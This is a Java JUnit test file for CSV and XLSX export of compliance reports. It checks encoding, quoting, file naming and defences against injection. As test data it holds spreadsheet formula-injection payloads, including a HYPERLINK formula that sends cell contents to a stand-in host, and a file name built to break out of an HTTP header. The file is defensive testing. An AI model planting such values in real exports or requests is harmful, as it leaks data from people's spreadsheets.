package cn.onenet.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

class ReportFilesTest {

    private static final List<String> COLUMNS = List.of("部门代码 departmentCode", "部门名称 departmentName",
            "按时率 onTimeRate", "逾期 overdue");

    private static ReportTable table(List<?>... rows) {
        return new ReportTable("合规报告", COLUMNS, List.of(rows));
    }

    private static byte[] csv(ReportTable table) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new ReportDownload(table, ReportFormat.CSV, "test", "r.csv").write(out);
        return out.toByteArray();
    }

    private static List<List<String>> records(byte[] csv) throws IOException {
        String text = new String(csv, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), "a UTF-8 BOM first");
        return CSVFormat.DEFAULT.parse(new StringReader(text.substring(1))).getRecords().stream()
                .map(CSVRecord::toList).toList();
    }

    @Test
    void csvIsUtf8WithBomCrlfAndQuotesWhatNeedsIt() throws IOException {
        byte[] bytes = csv(table(Arrays.asList("11330000002481020A", "浙江省公安厅, \"总队\"", 0.7778, 3),
                Arrays.asList("11330100002491020B", "两行\n名称", null, 0)));
        assertEquals("\uFEFF部门代码 departmentCode,部门名称 departmentName,按时率 onTimeRate,逾期 overdue\r\n"
                + "11330000002481020A,\"浙江省公安厅, \"\"总队\"\"\",0.7778,3\r\n"
                + "11330100002491020B,\"两行\n名称\",,0\r\n", new String(bytes, StandardCharsets.UTF_8));
        assertEquals(List.of(COLUMNS, List.of("11330000002481020A", "浙江省公安厅, \"总队\"", "0.7778", "3"),
                List.of("11330100002491020B", "两行\n名称", "", "0")), records(bytes));
    }

    @Test
    void csvTextThatASpreadsheetWouldRunAsAFormulaStartsWithAnApostrophe() throws IOException {
        List<String> names = List.of("=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+2", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1");
        List<List<?>> rows = names.stream()
                .<List<?>>map(n -> Arrays.<Object>asList("11330000002481020A", n, -0.5, 1)).toList();
        List<List<String>> records = records(csv(new ReportTable("合规报告", COLUMNS, rows)));
        for (int i = 0; i < names.size(); i++) {
            List<String> record = records.get(i + 1);
            assertEquals("'" + names.get(i), record.get(1), "escaped: " + names.get(i));
            // numbers are not text a user wrote: a negative one stays a number
            assertEquals("-0.5", record.get(2));
        }
        // harmless text as it is: a formula character later on, an apostrophe, Chinese, empty
        List<List<?>> harmless = List.of(Arrays.asList("a=b", "'=1", "浙江省=公安厅", ""));
        assertEquals(List.of("a=b", "'=1", "浙江省=公安厅", ""),
                records(csv(new ReportTable("合规报告", COLUMNS, harmless))).get(1));
    }

    @Test
    void xlsxHasTheHeaderTextAsTextNumbersAsNumbersAndEmptyCellsLeftOut() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ReportTable table = table(Arrays.asList("11330000002481020A", "=1+2", new BigDecimal("0.75"), 4),
                Arrays.asList("11330100002491020B", "", null, 0));
        new ReportDownload(table, ReportFormat.XLSX, "test-service", "r.xlsx").write(out);
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertEquals("合规报告", wb.getFirstSheet().getName());
            List<Row> rows = wb.getFirstSheet().read();
            assertEquals(3, rows.size());
            for (int c = 0; c < COLUMNS.size(); c++) {
                assertEquals(COLUMNS.get(c), rows.get(0).getCellAsString(c).orElse(null));
            }
            Row first = rows.get(1);
            assertEquals("11330000002481020A", first.getCellAsString(0).orElseThrow());
            // an inline string is never run as a formula: the text stays as the user wrote it
            assertEquals(CellType.STRING, first.getCell(1).getType());
            assertEquals("=1+2", first.getCellAsString(1).orElseThrow());
            assertEquals(CellType.NUMBER, first.getCell(2).getType());
            assertEquals(0, new BigDecimal("0.75").compareTo(first.getCellAsNumber(2).orElseThrow()));
            assertEquals(4, first.getCellAsNumber(3).orElseThrow().intValue());
            assertEquals("", rows.get(2).getCellText(2));
            assertEquals(0, rows.get(2).getCellAsNumber(3).orElseThrow().intValue());
        }
    }

    @Test
    void formatsAreJsonCsvOrXlsxAndJsonIsNoFile() {
        assertEquals(Optional.of(ReportFormat.JSON), ReportFormat.parse(null));
        assertEquals(Optional.of(ReportFormat.JSON), ReportFormat.parse(" "));
        assertEquals(Optional.of(ReportFormat.CSV), ReportFormat.parse(" csv "));
        assertEquals(Optional.of(ReportFormat.XLSX), ReportFormat.parse("xlsx"));
        assertEquals(Optional.empty(), ReportFormat.parse("CSV"));
        assertEquals(Optional.empty(), ReportFormat.parse("pdf"));
        assertEquals("text/csv; charset=UTF-8", ReportFormat.CSV.mediaType());
        assertEquals(ReportFiles.XLSX, ReportFormat.XLSX.mediaType());
        assertThrows(IllegalArgumentException.class, () -> new ReportDownload(table(), ReportFormat.JSON, "t", "r"));
    }

    @Test
    void theFileIsNamedByRegionSwitchAndPeriodAsAnAttachment() {
        LocalDate from = LocalDate.parse("2026-01-01");
        LocalDate to = LocalDate.parse("2026-12-31");
        assertEquals("compliance-report-330100-with-subregions-2026-01-01-2026-12-31.csv",
                ReportFiles.fileName("compliance-report", "330100", true, from, to, ReportFormat.CSV));
        String all = ReportFiles.fileName("catalog-compliance-report", null, false, from, to, ReportFormat.XLSX);
        assertEquals("catalog-compliance-report-all-2026-01-01-2026-12-31.xlsx", all);
        assertEquals("attachment; filename=\"" + all + "\"",
                new ReportDownload(table(), ReportFormat.XLSX, "t", all).contentDisposition());
        // nothing can break out of the header's quotes or add a header line
        assertEquals("attachment; filename=\"a___b__c_.csv\"", ReportFiles.attachment("a\"\r\nb;\u533Ac/.csv"));
    }
}
